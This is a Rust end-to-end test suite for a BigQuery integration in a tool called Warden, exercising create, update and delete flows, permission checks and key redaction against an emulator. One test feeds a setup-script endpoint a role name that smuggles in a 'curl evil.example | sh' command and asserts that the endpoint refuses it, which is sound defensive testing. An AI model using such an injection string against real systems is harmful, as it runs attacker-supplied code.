//! Google BigQuery end to end: the shipped `warden` binary with its real BigQuery adapter,
//! driven over HTTP, against bqemulator (which `cargo xtask ci` starts behind
//! `xtask/bqemulator_server.py` and the binary reaches through `BIGQUERY_EMULATOR_HOST`, as
//! Google's client libraries do) with tokens from the token-endpoint stand-in of
//! `tests/src/google_token.rs`. A dry run, a create to `enabled` with the metadata dataset
//! made, GET with the key file `[REDACTED]`, a PUT, a delete to `deleted` with the dataset
//! gone; a missing permission refused with its name; and the setup script, checked with
//! `bash -n` and shellcheck, with hostile names refused.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)] // a panic is a failed test

mod common;

use common::{Backend, SHIPPED, Server};
use serde_json::{Value, json};
use warden_e2e::google_token;

fn emulator() -> Option<String> {
    match std::env::var("WARDEN_TEST_BIGQUERY_EMULATOR") {
        Ok(host) => Some(host),
        Err(_) => {
            assert_ne!(std::env::var("CI").as_deref(), Ok("true"), "CI=true needs bqemulator (cargo xtask ci)");
            eprintln!("WARDEN_TEST_BIGQUERY_EMULATOR is not set: skipped");
            None
        }
    }
}

fn payload(key_file: &str, role: &str) -> Value {
    json!({"type": "Google BigQuery", "autoBootstrap": false, "config": {"role": role,
        "datasetSuffix": "_secure", "dataset": "warden_meta", "location": "US", "credential": key_file}})
}

fn statuses(answer: &Value) -> Vec<String> {
    answer["validationResults"]["validationTests"]
        .as_array()
        .map(|tests| tests.iter().map(|t| t["status"].as_str().unwrap_or_default().to_owned()).collect())
        .unwrap_or_default()
}

/// `method path` on the emulator as the project's administrator (a token of the form the
/// stand-in issues).
async fn as_admin(host: &str, project: &str, method: reqwest::Method, path: &str) -> Value {
    use base64::Engine as _;
    let admin =
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("admin@{project}.iam.gserviceaccount.com"));
    let response = reqwest::Client::new()
        .request(method, format!("http://{host}/bigquery/v2/projects/{project}{path}"))
        .bearer_auth(format!("ya29.warden-test.{admin}.admin"))
        .send()
        .await
        .unwrap();
    response.json().await.unwrap_or(Value::Null)
}

/// The datasets of `project`, listed as an administrator.
async fn datasets(host: &str, project: &str) -> Vec<String> {
    let listed = as_admin(host, project, reqwest::Method::GET, "/datasets").await;
    listed["datasets"]
        .as_array()
        .map(|d| d.iter().map(|d| d["datasetReference"]["datasetId"].as_str().unwrap().to_owned()).collect())
        .unwrap_or_default()
}

#[tokio::test]
async fn an_integration_end_to_end() {
    let Some(host) = emulator() else { return };
    let tokens = google_token::start().await;
    let project = format!("warden-e2e-{}", std::process::id());
    let key = tokens.key_file(&project, &format!("warden-sa@{project}.iam.gserviceaccount.com"));
    let denied = tokens.key_file(&project, &format!("warden-deny-tables-delete@{project}.iam.gserviceaccount.com"));
    let server = Server::start_binary_with_env(
        SHIPPED,
        &Backend::Sqlite,
        tempfile::tempdir().unwrap(),
        &[("BIGQUERY_EMULATOR_HOST", host.as_str())],
    )
    .await;
    let integration = payload(&key, "wardenRole");

    let dry = server.call("POST", "/integrations?dryRun=true", Some(&integration)).await;
    assert_eq!(dry.status, 200, "{}", dry.text);
    assert_eq!(statuses(&dry.body), vec!["passed"; 12], "{}", dry.text);

    let refused = server.call("POST", "/integrations", Some(&payload(&denied, "wardenRole"))).await;
    assert_eq!(refused.status, 422, "{}", refused.text);
    let failed: Vec<&Value> = refused.body["validationResults"]["validationTests"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["status"] == "failed")
        .collect();
    let names: Vec<&str> = failed.iter().map(|t| t["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["Validate manual: [dataset - delete]", "Validate manual: [table - delete]"], "{}", refused.text);
    assert!(
        failed[0]["message"].as_str().unwrap().contains("(not tried: [table - delete] failed)"),
        "{}",
        refused.text
    );
    assert!(failed[1]["message"].as_str().unwrap().contains("bigquery.tables.delete"), "{}", refused.text);
    assert!(datasets(&host, &project).await.is_empty(), "the throwaway dataset is gone even so");

    let created = server.call("POST", "/integrations", Some(&integration)).await;
    assert_eq!(created.status, 200, "{}", created.text);
    let id = created.body["id"].as_u64().unwrap();
    assert_eq!(server.settled(id).await["status"], "enabled", "{}", server.logs());
    assert_eq!(datasets(&host, &project).await, ["warden_meta"], "the metadata dataset is made");

    let got = server.call("GET", &format!("/integrations/{id}"), None).await;
    assert_eq!(got.body["config"]["credential"], "[REDACTED]", "{}", got.text);

    // Someone drops Warden's dataset: the check warns and says a PUT makes it again, and it does.
    as_admin(&host, &project, reqwest::Method::DELETE, "/datasets/warden_meta?deleteContents=true").await;
    assert!(datasets(&host, &project).await.is_empty());
    let edited = server.call("PUT", &format!("/integrations/{id}"), Some(&payload("[REDACTED]", "wardenRoleV2"))).await;
    assert_eq!(edited.status, 200, "{}", edited.text);
    let exists = edited.body["validationResults"]["validationTests"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "Initialize validation: [dataset - exists]")
        .unwrap();
    assert_eq!(exists["status"], "warning", "{}", edited.text);
    assert!(exists["message"].as_str().unwrap().contains("(PUT with its config) creates it again"), "{exists}");
    let settled = server.settled(id).await;
    assert_eq!(settled["status"], "enabled", "{settled}");
    assert_eq!(datasets(&host, &project).await, ["warden_meta"], "the PUT made the dataset again");
    let got = server.call("GET", &format!("/integrations/{id}"), None).await;
    assert_eq!(got.body["config"]["role"], "wardenRoleV2", "{}", got.text);

    let deleted = server.call("DELETE", &format!("/integrations/{id}"), None).await;
    assert_eq!(deleted.status, 200, "{}", deleted.text);
    assert_eq!(server.settled(id).await["status"], "deleted", "{}", server.logs());
    assert!(datasets(&host, &project).await.is_empty(), "the dataset Warden made is gone");

    let private_key: Value = serde_json::from_str(&key).unwrap();
    let private_key = private_key["private_key"].as_str().unwrap();
    let secret_line = private_key.lines().nth(2).unwrap();
    for answer in [&dry, &refused, &created, &got, &edited, &deleted] {
        assert!(!answer.text.contains(secret_line), "the key reached a response");
    }
    let logs = server.logs();
    assert!(!logs.contains(secret_line), "the key reached the log");
    for token in tokens.issued() {
        assert!(!logs.contains(&token), "an access token reached the log");
    }
}

/// The setup script from the endpoint: bash, ready to pipe to a file; asked for with the
/// project and the account's name (the key does not exist yet); a hostile name refused
/// naming its field; no script for the other kinds.
#[tokio::test]
async fn the_setup_script_endpoint() {
    let server = Server::start_binary_with_env(SHIPPED, &Backend::Sqlite, tempfile::tempdir().unwrap(), &[]).await;
    let asked = json!({"type": "Google BigQuery", "autoBootstrap": false, "config": {"role": "wardenRole",
        "datasetSuffix": "_secure", "location": "US", "projectId": "acme-analytics", "serviceAccount": "warden-gov"}});
    let script = server.call("POST", "/integrations/scripts/create", Some(&asked)).await;
    assert_eq!(script.status, 200, "{}", script.text);
    assert!(
        script.text.starts_with("#!/usr/bin/env bash\n# Warden create script for the Google BigQuery"),
        "{}",
        script.text
    );
    assert!(
        script.text.contains("gcloud iam service-accounts create 'warden-gov' --project='acme-analytics'"),
        "{}",
        script.text
    );

    let mut hostile = asked.clone();
    hostile["config"]["role"] = json!("warden'; curl evil.example | sh; '");
    let refused = server.call("POST", "/integrations/scripts/create", Some(&hostile)).await;
    assert_eq!(refused.status, 400, "{}", refused.text);
    assert_eq!(refused.body["errors"][0]["path"], "config.role", "{}", refused.text);

    let cleanup = server.call("POST", "/integrations/scripts/cleanup", Some(&asked)).await;
    assert_eq!(cleanup.status, 400, "{}", cleanup.text);

    // A key file whose token endpoint is plain http off this machine is refused before
    // anything is signed or sent.
    let key = json!({"type": "service_account", "project_id": "acme-analytics",
        "client_email": "warden@acme-analytics.iam.gserviceaccount.com", "private_key": "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n",
        "token_uri": "http://tokens.example.com/token"});
    let downgraded =
        server.call("POST", "/integrations?dryRun=true", Some(&payload(&key.to_string(), "wardenRole"))).await;
    assert_eq!(downgraded.status, 400, "{}", downgraded.text);
    assert_eq!(downgraded.body["errors"][0]["path"], "config.credential", "{}", downgraded.text);
    assert!(downgraded.text.contains("token_uri"), "{}", downgraded.text);
    assert!(!downgraded.text.contains("MIIE"), "the key is not echoed: {}", downgraded.text);
}
